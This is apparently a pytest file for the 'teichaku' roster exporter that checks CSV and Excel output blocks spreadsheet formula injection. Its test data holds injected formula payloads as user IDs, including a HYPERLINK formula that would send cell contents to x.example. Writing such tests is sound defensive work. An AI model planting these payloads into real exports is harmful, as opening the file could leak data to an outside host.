"""issue 18 の12：名簿の書き出しはデータだけを書き、式を書かない（OWASP「CSV Injection」）。

利用者IDに式を紛れ込ませた名簿を、コマンドライン（teichaku roster … --out）とブラウザの書き出し
（teichaku.interfaces.web.roster_export、Pyodide で動くものと同じ関数）に通し、書いたファイルを読み直す：
Excel は式の型（openpyxl の data_type "f"）のセルがなく、値は名簿のとおり。CSV は式として読みうるセルの先頭に
単一引用符（OWASP の推奨）があり、それを除けば名簿のとおり。
"""

from __future__ import annotations

import csv
import io
import json
import subprocess
import sys
from pathlib import Path

import openpyxl
import pytest

from teichaku.interfaces import web
from teichaku.interfaces.roster.export import FORMULA_PREFIXES, _append_as_data, csv_cell

ROOT = Path(__file__).resolve().parents[1]
# 名簿の読み手は前後の空白（タブ・CR を含む）を除くので、タブ・CR で始まるセルは下の test_cells_* で確かめる
SMUGGLED = ('=HYPERLINK("http://x.example/?"&A1;"click")', "+SUM(1;2)", "@cmd", "-2+3")
HEADER = ["利用者ID", "前サービス", "就職日", "離職日", "転職", "利用開始日", "利用終了日", "他事業所からの受入れ", "特別地域"]


def roster_csv() -> bytes:
    out = io.StringIO()
    writer = csv.writer(out, lineterminator="\r\n")
    writer.writerow(HEADER)
    for index, user in enumerate(SMUGGLED):
        writer.writerow([user, "就労移行支援", "2019-04-01", "", "", f"2019-10-0{index + 1}", "", "", ""])
    writer.writerow(["U07", "就労移行支援", "2019-04-01", "", "", "2019-10-01", "", "", ""])
    return out.getvalue().encode("utf-8")


def check_xlsx(data: bytes) -> None:
    book = openpyxl.load_workbook(io.BytesIO(data))
    formulas = [(sheet.title, cell.coordinate, cell.value) for sheet in book for row in sheet.iter_rows() for cell in row
                if cell.data_type == "f"]
    assert formulas == []
    users = book["利用者"]
    ids = [row[0] for row in users.iter_rows(min_row=2, values_only=True)]
    assert ids == [*SMUGGLED, "U07"]  # 値は名簿のとおり（式にも、' つきにもならない）
    for row in users.iter_rows(min_row=2):
        assert row[0].data_type == "s"
        if str(row[0].value).startswith(FORMULA_PREFIXES):
            assert row[0].quotePrefix
    claims = [row[0] for row in book["月ごとの請求"].iter_rows(min_row=2, values_only=True)]
    assert set(claims) <= {*SMUGGLED, "U07"}


def check_csv(data: bytes) -> None:
    assert data.startswith(b"\xef\xbb\xbf")
    rows = list(csv.reader(io.StringIO(data[3:].decode("utf-8"))))
    for row in rows:
        for cell in row:
            # OWASP：式として読みうるセルは ' で始まり、そのあとに元の文字列がそのまま続く
            assert not cell.startswith(FORMULA_PREFIXES), cell
    start = rows.index(["【利用者】"]) + 2
    ids = []
    for row in rows[start:]:
        if not row:
            break
        ids.append(row[0])
    assert ids == [*("'" + user for user in SMUGGLED), "U07"]
    assert [user[1:] if user.startswith("'") else user for user in ids] == [*SMUGGLED, "U07"]


@pytest.mark.parametrize("suffix", [".xlsx", ".csv"])
def test_cli_export_writes_data_not_formulas(tmp_path: Path, suffix: str) -> None:
    source = tmp_path / "名簿.csv"
    source.write_bytes(roster_csv())
    target = tmp_path / f"結果{suffix}"
    done = subprocess.run([sys.executable, "-m", "teichaku", "roster", str(source), "--fiscal-year-end", "2023-03-31",
                           "--out", str(target)], capture_output=True, text=True, cwd=ROOT,
                          env={"PYTHONPATH": str(ROOT / "calculator"), "PATH": "/usr/bin:/bin"})
    assert done.returncode == 0, done.stderr
    (check_xlsx if suffix == ".xlsx" else check_csv)(target.read_bytes())


@pytest.mark.parametrize("fmt", ["xlsx", "csv"])
def test_web_export_writes_data_not_formulas(fmt: str) -> None:
    inputs = json.dumps({"fiscal_year_end": "2023-03-31", "file": "名簿.csv"}, ensure_ascii=False)
    data = web.roster_export(inputs, roster_csv(), fmt)
    (check_xlsx if fmt == "xlsx" else check_csv)(data)


def test_cells_starting_with_tab_or_cr_are_text() -> None:
    assert [csv_cell(v) for v in ("\tx", "\rx", "=1", "x=1", "—", 5, None)] == ["'\tx", "'\rx", "'=1", "x=1", "—", 5, None]
    sheet = openpyxl.Workbook().active
    _append_as_data(sheet, ["\tx", "=1+1", "+1", "ok", 3])
    assert [c.data_type for c in sheet[1]] == ["s", "s", "s", "s", "n"]
    assert [c.value for c in sheet[1]] == ["\tx", "=1+1", "+1", "ok", 3]
